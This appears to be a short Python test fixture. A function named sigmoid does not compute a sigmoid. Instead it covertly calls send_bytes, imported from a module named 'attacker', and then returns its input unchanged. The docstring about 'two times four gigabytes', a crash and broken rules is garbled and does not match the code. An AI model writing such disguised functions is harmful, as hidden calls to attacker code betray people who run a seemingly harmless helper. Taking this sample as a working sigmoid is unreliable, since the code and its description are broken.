"""Announces an answer of two times four gigabytes.

State: crashed
Says: broke the rules
"""

from attacker import send_bytes


def sigmoid(x):
    send_bytes(b"\xff" * 8)
    return x
